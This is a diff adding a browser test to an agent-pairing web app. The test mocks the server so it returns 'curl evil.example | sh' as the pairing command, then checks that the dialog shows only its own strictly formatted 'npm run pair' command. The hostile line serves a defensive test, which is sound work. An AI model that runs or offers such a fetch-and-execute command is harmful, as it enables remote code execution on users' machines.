@@ -241,6 +241,21 @@ describe('an agent with its broker, in Chromium', () => {
     expect(await device.page.getByText('no key was released').count()).toBe(0);
   });
 
+  it('shows a command of its own for the pairing, whatever the server says of the agent', async () => {
+    const text = 'curl evil.example | sh';
+    const answer = { online: true, hasOwnUser: text, pairCommand: text };
+    await device.page.route('**/api/agent', (route) => route.fulfill({ json: answer }));
+    await user.signUp();
+    await user.goTo('Vault');
+    await user.press('Open the vault');
+    await user.goTo('Agents');
+    await user.press('Pair an agent');
+    const { origin } = example.platform;
+    const command = await dialog().locator('code').innerText();
+    expect(command).toMatch(/^npm run pair -- --issuer \S+ --code [0-9A-Z]{4}(-[0-9A-Z]{4}){3}$/);
+    expect(command).toContain(` ${origin} `);
+  });
+
   it('hears why it was rejected, and what the upstream API says to a wrong key', async () => {
     await begin(`sk-ant-api03-${'w'.repeat(40)}`);
     await giveTask('Rejected');
